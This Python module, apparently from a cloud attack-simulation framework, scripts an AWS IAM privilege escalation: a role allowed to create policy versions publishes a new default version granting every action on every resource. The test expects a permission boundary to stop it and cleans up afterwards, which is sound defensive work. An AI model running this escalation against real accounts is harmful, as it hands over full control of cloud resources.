"""Write a new version of one's own policy that allows everything."""

from bastide.attack.stage import Stage, policy
from bastide.attack.technique import Prevented, Scene, Technique

TECHNIQUE = Technique(
    title="A developer rewrites its own policy",
    mitre=("T1098.003",),
    tactic="privilege-escalation",
    detectors=("GuardDuty PrivilegeEscalation:IAMUser/AnomalousBehavior", "Security Hub IAM.1"),
    expected=Prevented("permission-boundary"),
    source="IAM API Reference, CreatePolicyVersion",
)


def prepare(stage: Stage) -> Scene:
    """A role with a policy that lets it write policy versions."""
    iam = stage.owner().client("iam")
    document = policy({"Effect": "Allow", "Action": "iam:CreatePolicyVersion", "Resource": "*"})
    made = iam.create_policy(PolicyName=stage.name("developer"), PolicyDocument=document)["Policy"]
    role = stage.role("developer", allows="s3:ListAllMyBuckets")
    iam.attach_role_policy(RoleName=role.rpartition("/")[2], PolicyArn=made["Arn"])
    return {"role": role, "policy": made["Arn"]}


def attack(stage: Stage, scene: Scene) -> None:
    """The next version allows everything."""
    everything = policy({"Effect": "Allow", "Action": "*", "Resource": "*"})
    stage.entered(scene["role"]).client("iam").create_policy_version(
        PolicyArn=scene["policy"], PolicyDocument=everything, SetAsDefault=True
    )


def succeeded(stage: Stage, scene: Scene) -> bool:
    """Another version than the first counts."""
    found = stage.owner().client("iam").get_policy(PolicyArn=scene["policy"])["Policy"]
    return str(found["DefaultVersionId"]) != "v1"


def clean_up(stage: Stage, scene: Scene) -> None:
    """Delete the role and the policy."""
    iam = stage.owner().client("iam")
    stage.drop_role(scene["role"])
    for version in iam.list_policy_versions(PolicyArn=scene["policy"])["Versions"]:
        if not version["IsDefaultVersion"]:
            iam.delete_policy_version(PolicyArn=scene["policy"], VersionId=version["VersionId"])
    iam.delete_policy(PolicyArn=scene["policy"])
